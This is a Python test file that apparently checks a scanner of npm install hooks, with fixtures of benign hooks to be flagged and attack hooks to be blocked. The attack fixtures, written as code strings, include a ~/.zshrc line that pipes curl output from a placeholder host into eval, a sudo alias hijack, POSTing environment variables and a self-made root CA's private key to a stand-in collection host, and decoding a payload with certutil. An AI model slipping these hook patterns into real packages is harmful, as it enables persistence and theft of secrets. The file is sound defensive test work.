"""What honest packages do and a person should see is told and not blocked; with what makes it an attack it is."""

from __future__ import annotations

import pytest

from tests.builders import Files
from tests.evasions.packages import Seen, hooked, packages

pytestmark = pytest.mark.semgrep

FETCHES = "require('https').get('https://files.example.invalid/a', (reply) => reply.resume());\n"
POSTS = "fetch('https://collect.example.invalid/v1', { method: 'POST', body: 'installed' });\n"


def profile(line: str, then: str = "") -> Files:
    """Make a hook that adds a line to a file that a shell runs at every start."""
    text = (
        "const fs = require('fs'), os = require('os'), path = require('path');\n"
        f"const rc = path.join(os.homedir(), '.zshrc');\nfs.appendFileSync(rc, {line!r});\n"
    )
    return hooked("node a.js", {"a.js": text + then})


def manifest(change: str, then: str = "") -> Files:
    """Make a hook that changes the scripts of the project."""
    text = (
        "const fs = require('fs'), path = require('path');\n"
        "const file = path.join(process.env.INIT_CWD, 'package.json');\n"
        "const told = JSON.parse(fs.readFileSync(file, 'utf8'));\ntold.scripts = told.scripts || {};\n"
        f"{change}\nfs.writeFileSync(file, JSON.stringify(told, null, 2));\n"
    )
    return hooked("node a.js", {"a.js": text + then})


def quarantine(then: str = "") -> Files:
    """Make a hook that takes macOS's mark from the program that it brings."""
    return hooked("sh a.sh", {"a.sh": f"{then}xattr -dr com.apple.quarantine ./vendor/Tool.app\n"})


def authority(then: str = "") -> Files:
    """Make a hook that has Windows and macOS trust an authority."""
    text = (
        "const { execFileSync } = require('child_process'), os = require('os'), path = require('path');\n"
        "if (process.platform === 'win32') execFileSync('certutil', ['-user', '-addstore', 'Root', 'own.crt']);\n"
        "else execFileSync('security', ['add-trusted-cert', '-k', path.join(os.homedir(), 'Library/Keychains/login.keychain-db'), 'own.crt']);\n"
    )
    return hooked("node a.js", {"a.js": text + then})


def beside(place: str, written: str) -> Files:
    """Make a hook that names a place one folder up from its script, and writes something."""
    text = (
        "const fs = require('fs'), os = require('os'), path = require('path');\n"
        f"const part = process.env.PART, place = path.join(__dirname, '..', {place});\n{written}\n"
    )
    return hooked("node scripts/a.js", {"scripts/a.js": text, "shell/tool.zsh": "compdef _tool tool\n"})


SOURCES = "fs.appendFileSync(path.join(os.homedir(), '.zshrc'), `. ${place}\\n`);"
REPLACES = "fs.writeFileSync(place, 'module.exports = {};');"


def made_authority(making: str, trusting: str, then: str = "") -> Files:
    """Make a hook that makes an authority with a key of its own, and has the machine trust it by a helper of its own."""
    helper = "const { execFileSync } = require('child_process');\nmodule.exports = (file, given, how) => execFileSync(file, given, how);\n"
    make = f"require('./run')('openssl', ['req', '-x509', '-keyout', 'own.key', '-out', 'own.crt'], {making});\n"
    trust = f"require('./make');\nconst run = require('./run');\nrun('certutil', ['-user', '-addstore', 'Root', 'own.crt'], {trusting});\n"
    return hooked("node a.js", {"a.js": trust + then, "make.js": make, "run.js": helper})


QUIET, OPEN = "{ stdio: 'ignore' }", "{ stdio: 'inherit' }"
SENDS_KEY = (
    "fetch('https://collect.example.invalid/k', { method: 'POST', body: require('fs').readFileSync('own.key') });\n"
)
SHIPPED = "require('./run')('openssl', ['x509', '-in', 'own.crt'], { stdio: 'ignore' });\n"


def child(options: str, then: str = "") -> Files:
    """Make a hook that lets go of a program of its own, which asks the network."""
    text = (
        "const { spawn } = require('child_process'), path = require('path');\n"
        f"spawn(process.execPath, [path.join(__dirname, 'b.js')], {options}).unref();\n"
    )
    return hooked("node a.js", {"a.js": text + then, "b.js": FETCHES})


SILENT = "{ detached: true, stdio: 'ignore' }"
ANY_PART = "const part = require(`./part-${process.env.PART}`);\n"


@packages(
    profile=profile("source <(tool completion zsh)"),
    profile_file=profile("[ -f ~/.config/tool/tool.zsh ] && . ~/.config/tool/tool.zsh || true"),
    profile_names_own=beside("'shell', `tool.${part}`", SOURCES),
    manifest=manifest("told.scripts.lint = 'tool lint';"),
    manifest_by_table=manifest("for (const [name, text] of [['lint', 'tool lint']]) told.scripts[name] = text;"),
    quarantine=quarantine(),
    authority=authority(),
    authority_made=made_authority(QUIET, OPEN),
    child=child(SILENT),
    posting=hooked("node a.js", {"a.js": ANY_PART + POSTS}),
    handing=hooked("node a.js", {"a.js": f"require('child_process').execSync('ls', {{ env: process.env }});\n{POSTS}"}),
)
def test_it_is_told_and_not_blocked(seen: Seen) -> None:
    assert seen.flagged
    assert not seen.blocked


@packages(
    profile_fetched=profile("source <(tool completion zsh)", FETCHES),
    profile_started=profile("node ~/.cache/tool/agent.js &"),
    profile_alias=profile("alias sudo='~/.cache/tool/sudo'"),
    profile_download=profile('eval "$(curl -fsSL https://files.example.invalid/a)"'),
    profile_and_neighbour=beside("'..', 'neighbour', `${part}.js`", SOURCES + REPLACES),
    neighbour_at_home=beside(
        "'..', 'neighbour', 'index.js'", "fs.writeFileSync(path.join(os.homedir(), part, 'a.js'), '');"
    ),
    manifest_hook=manifest("told.scripts.postinstall = 'tool setup';"),
    manifest_lost=manifest("delete told.scripts.postinstall;"),
    manifest_fetched=manifest("told.scripts.lint = 'tool lint';", FETCHES),
    manifest_of_dependencies=manifest("told.scripts.lint = 'tool lint'; told.overrides = { tool: '1.0.0' };"),
    quarantine_fetched=quarantine("curl -fsSLo a.zip https://files.example.invalid/a.zip\n"),
    authority_fetched=authority(FETCHES),
    authority_and_loader=authority("execFileSync('certutil', ['-f', '-decode', 'a.txt', 'a.exe']);\n"),
    authority_in_silence=made_authority(QUIET, QUIET),
    authority_whose_key_is_sent=made_authority(QUIET, OPEN, SENDS_KEY),
    authority_not_made={**made_authority(QUIET, OPEN), "make.js": SHIPPED},
    child_made=child(SILENT, "require('fs').chmodSync('b', 0o755);\n"),
    posting_hidden=hooked("node a.js", {"a.js": f"const say = globalThis[words.pop()];\nsay[words.pop()]();\n{POSTS}"}),
    handing_over=hooked("node a.js", {"a.js": POSTS.replace("'installed'", "JSON.stringify(process.env)")}),
)
def test_with_what_makes_it_an_attack_it_is_blocked(seen: Seen) -> None:
    assert seen.blocked
